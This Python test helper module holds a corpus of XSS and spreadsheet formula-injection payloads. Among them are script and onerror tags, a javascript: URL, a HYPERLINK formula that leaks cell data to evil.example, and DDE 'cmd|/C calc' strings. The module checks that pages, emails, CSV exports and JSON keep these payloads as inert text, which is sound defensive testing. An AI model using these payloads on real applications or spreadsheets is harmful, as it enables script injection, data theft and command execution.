"""An XSS and formula-injection corpus, and the checks that it stayed text.

Each payload is something a customer (a comment), an admin (a store, touchpoint, reason or
person's name) or an attacker who got one of those roles could type. Shown in a page, none may
run (``window.__pwned`` stays undefined, no dialog opens) and each must read as the text it is;
in an email's HTML part it must arrive escaped; in a CSV export no cell may start a formula
(``= + - @``, tab, CR: hub/dashboards/pages.py ``csv_cell`` puts an apostrophe in front); in
JSON it must come back intact.
"""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

from markupsafe import escape

SCRIPT = "<script>window.__pwned=1</script>"
IMG = '"><img src=x onerror=window.__pwned=2>'
JS_URL = "javascript:window.__pwned=3"
TITLE = "</title><svg onload=window.__pwned=4>"
TEMPLATE = "{{7*7}} ${7*7} {%raw%}"
ATTR = "' onmouseover='window.__pwned=5' x='"
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
PLUS = "+1+cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(1+9)*cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
RTL = "\u202egnp.exe\u202c harmless"

MARKUP = (SCRIPT, IMG, JS_URL, TITLE, TEMPLATE, ATTR)
FORMULAS = (HYPERLINK, PLUS, MINUS, AT, TAB, CR)
ALL = (*MARKUP, *FORMULAS, RTL)

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def long_text(length: int, tail: str = SCRIPT) -> str:
    """``length`` characters of words ending in ``tail``: a very long string with a payload at
    the end (where a truncation could cut an escape sequence in half)."""
    words = "sehr lange Schlange an der Kasse "
    body = (words * (length // len(words) + 1))[: length - len(tail)]
    return body + tail


def named(tag: str, payload: str) -> str:
    """A name carrying a payload, told apart by ``tag`` (each place gets its own)."""
    return f"{tag} {payload}"


# --- in a browser page ---------------------------------------------------------------------

# what a page must not have after showing the corpus: our marker set, a javascript: link, or an
# element that only an injected payload would make
PAGE_STATE = """() => ({
    pwned: typeof window.__pwned === 'undefined' ? null : String(window.__pwned),
    jsLinks: [...document.querySelectorAll('a[href], area[href], form[action], iframe[src]')]
        .map((e) => e.getAttribute('href') || e.getAttribute('action') || e.getAttribute('src'))
        .filter((u) => /^\\s*javascript:/i.test(u)),
    injected: [...document.querySelectorAll('img[src="x"], [onerror], [onload], [onmouseover], script')]
        // a JSON data block (the phone page's survey) carries the texts as data, never runs
        .filter((e) => e.tagName !== 'SCRIPT' || (e.type !== 'application/json' && e.textContent.includes('__pwned')))
        .map((e) => e.outerHTML.slice(0, 120)),
    title: document.title,
})"""


def squashed(text: str) -> str:
    """Text with runs of whitespace as one space (how a browser lays out text)."""
    return re.sub(r"\s+", " ", text).strip()


def assert_page_safe(page: Any, dialogs: list[str], shown: list[str], url: str) -> None:
    """Nothing in the corpus ran in ``page`` and each of ``shown`` reads as text on it."""
    state = page.evaluate(PAGE_STATE)
    assert state["pwned"] is None, f"{url}: a payload ran (window.__pwned = {state['pwned']})"
    assert dialogs == [], f"{url}: a dialog opened: {dialogs}"
    assert state["jsLinks"] == [], f"{url}: javascript: links {state['jsLinks']}"
    assert state["injected"] == [], f"{url}: elements that only a payload makes: {state['injected']}"
    body = squashed(page.evaluate("() => document.body.textContent"))
    missing = [text for text in shown if squashed(text) not in body]
    assert not missing, f"{url}: not shown as text: {missing!r}"


# --- in an email ---------------------------------------------------------------------------


def assert_escaped_in_html(html: str, payload: str, where: str) -> None:
    """``payload`` is in ``html`` only escaped: its markup never appears raw."""
    assert str(escape(payload)) in html or _escaped_loosely(payload) in html, f"{where}: {payload!r} not shown escaped"
    for raw in ("<script>window.__pwned", "<img src=x", "<svg onload"):
        if raw in payload:
            assert raw not in html.replace(str(escape(payload)), ""), f"{where}: {raw!r} arrived as markup"


def _escaped_loosely(payload: str) -> str:
    """Jinja escapes quotes as &#34; / &#39;; other escapers use &quot; / &#x27;."""
    return str(escape(payload)).replace("&#34;", "&quot;").replace("&#39;", "&#x27;")


# --- in exports ----------------------------------------------------------------------------


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def unsafe_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would run as a formula (a plain number such as -2.5 is data)."""
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_START) and not _is_number(cell)]


def assert_csv_safe(text: str, expected: list[str], where: str) -> list[list[str]]:
    """No cell of the CSV ``text`` starts a formula, and each of ``expected`` is in a cell
    (with the apostrophe put in front where it started like a formula); returns the rows."""
    rows = csv_rows(text)
    assert rows, f"{where}: an empty export"
    bad = unsafe_cells(rows)
    assert not bad, f"{where}: cells that start a formula: {bad[:5]!r}"
    cells = [cell for row in rows for cell in row]
    for payload in expected:
        shown = "'" + payload if payload.startswith(FORMULA_START) else payload
        assert any(shown in cell for cell in cells), f"{where}: {payload!r} missing or changed"
    return rows


def strings_in(value: Any) -> list[str]:
    """Every string anywhere in decoded JSON."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for v in value.values() for s in strings_in(v)]
    if isinstance(value, list):
        return [s for v in value for s in strings_in(v)]
    return []


def assert_json_intact(text: str, expected: list[str], where: str) -> Any:
    """``text`` is valid JSON and holds each of ``expected`` unchanged in some string."""
    data = json.loads(text)
    found = strings_in(data)
    for payload in expected:
        assert any(payload in s for s in found), f"{where}: {payload!r} missing or changed in the JSON"
    return data
